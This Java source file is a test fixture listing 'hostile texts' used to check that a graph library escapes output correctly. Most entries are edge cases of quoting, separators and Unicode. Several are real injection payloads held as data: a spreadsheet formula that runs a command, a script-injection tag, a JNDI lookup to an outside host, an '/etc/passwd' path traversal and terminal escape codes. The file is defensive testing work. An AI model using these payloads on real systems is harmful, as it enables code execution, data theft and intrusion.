package org.evigraph.testkit;

import java.util.List;
import java.util.stream.Stream;

/** Texts that are valid in the model and that a careless writer gets wrong. */
public final class HostileTexts {
    /** Text that means something to a format: separators, quotes, formulas, markup. */
    static final List<String> SHORT = List.of(
            "\"",
            "\"quoted\"",
            "'",
            "''",
            "'=1",
            "it's",
            "\\",
            "ends with \\",
            "\\\\",
            "\\|",
            "\\;",
            "\\=",
            "|",
            "a|b",
            ";",
            "a;b;c",
            "=",
            "k=v",
            ",",
            "a,b",
            "=1+1",
            "=cmd|' /C calc'!A0",
            "+1",
            "+x",
            "-5",
            "-0.5",
            "-x",
            "--",
            "@SUM(A1)",
            "\tx",
            "\rx",
            "x\ry",
            "x\ny",
            "x\r\ny",
            "\nx",
            "x\n",
            "\uFF1D1",
            "\uFF0Bx",
            "\uFF0Dx",
            "\uFF20x",
            "'\uFF1D",
            " leading",
            "trailing ",
            "#x",
            "{}",
            "[1]",
            "null",
            "NaN",
            "true",
            "0123",
            "1E5",
            "2001-01-01");

    /** Text that means something to a browser, a terminal, a logger or a reader's eye. */
    private static final List<String> LONGER = List.of(
            "</script><script>alert(1)</script>",
            "<b>&amp;</b> ]]> <!-- -->",
            "x\"]; evil [label=\"pwn",
            "<<B>html label</B>>",
            "${jndi:ldap://example.org/x}",
            "%s %n %d {0}",
            "../../etc/passwd",
            "\u001B[31mred\u001B[0m",
            "nul \u0000 bell \u0007 del \u007F next \u0085",
            "line \u2028 paragraph \u2029",
            "\u202Eright to left",
            "\u2066isolated\u2069",
            "zero\u200Bwidth\uFEFF",
            "\uFEFFmarked",
            "\uD83D\uDC69\u200D\u2695\uFE0F \uD83E\uDDEC",
            "e\u0301 a\u0308\u0316\u0317\u0318\u0319",
            "\u6F22\u5B57 \u03A9 \u0639\u0631\u0628\u064A",
            "private \uE000 noncharacter \uFFFE \uFFFF");

    /** Text longer than any buffer is likely to be. */
    private static final String LONG =
            "long \"text\", with | and \\ and \u00E9 ".repeat(400).strip();

    /** All of them; none is blank, and each can be written as UTF-8. */
    public static final List<String> ALL =
            Stream.of(SHORT, LONGER, List.of(LONG)).flatMap(List::stream).toList();

    private HostileTexts() {}
}
